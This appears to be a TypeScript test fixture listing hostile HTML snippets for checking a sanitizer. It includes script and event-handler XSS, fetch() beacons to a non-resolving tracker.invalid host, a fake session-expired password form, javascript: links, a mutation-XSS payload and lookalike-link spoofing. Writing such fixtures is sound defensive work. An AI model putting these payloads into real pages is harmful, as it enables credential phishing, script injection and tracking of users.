// Addresses end in .invalid, which never resolves (RFC 6761): a successful attack still reaches no host.
const tracker = 'https://tracker.invalid'

/** Contents that a careless screen would run, load or follow. Each has readable text beside its attack. */
export const hostileHtml: readonly string[] = [
  `<p>Your prize is ready.</p><script>parent.document.title = 'owned'; fetch('${tracker}/script')</script>`,
  `<p>Look at this picture.</p><img src="${tracker}/open.gif?player=1" width="1" height="1" onerror="fetch('${tracker}/onerror')">`,
  `<style>@import url('${tracker}/import.css'); body { background: url('${tracker}/background.png') } p::after { content: url('${tracker}/after.png') }</style><p>A styled message.</p>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff"><h1>Session expired</h1><form action="${tracker}/login" method="post"><input name="password" type="password" autofocus onfocus="this.form.submit()"><button>Sign in</button></form></div>`,
  `<p>Claim it <a href="javascript:alert(document.domain)">here</a>, <a href="data:text/html,<script>alert(1)</script>">here</a> or <a href="https://casino.example@tracker.invalid/login">here</a>.</p>`,
  `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="80" onload="fetch('${tracker}/svg')"><image href="${tracker}/svg-image.png"/><a href="javascript:alert(1)"><text y="40">Win</text></a></svg><p>An animated gift.</p>`,
  `<meta http-equiv="refresh" content="0;url=${tracker}/refresh"><base href="${tracker}/"><link rel="stylesheet" href="${tracker}/link.css"><p>Please wait…</p>`,
  `<iframe src="${tracker}/frame" srcdoc="<script>top.location='${tracker}/top'</script>"></iframe><object data="${tracker}/object"></object><embed src="${tracker}/embed"><p>Play the trailer.</p>`,
  `<video autoplay poster="${tracker}/poster.jpg" src="${tracker}/video.mp4"></video><audio src="${tracker}/audio.mp3" autoplay></audio><p>Listen to this.</p>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>Mutated markup.</p>`,
  `<p>Pay to \u202Elagel.oniscac\u202C today.</p><a href="https://xn--csino-3ve.example/">https://casino.example/</a><a href="smb://tracker.invalid/share">share</a>`,
  `<details open ontoggle="fetch('${tracker}/toggle')"><summary>More</summary>${'<b>'.repeat(400)}deep${'</b>'.repeat(400)}</details>`
]
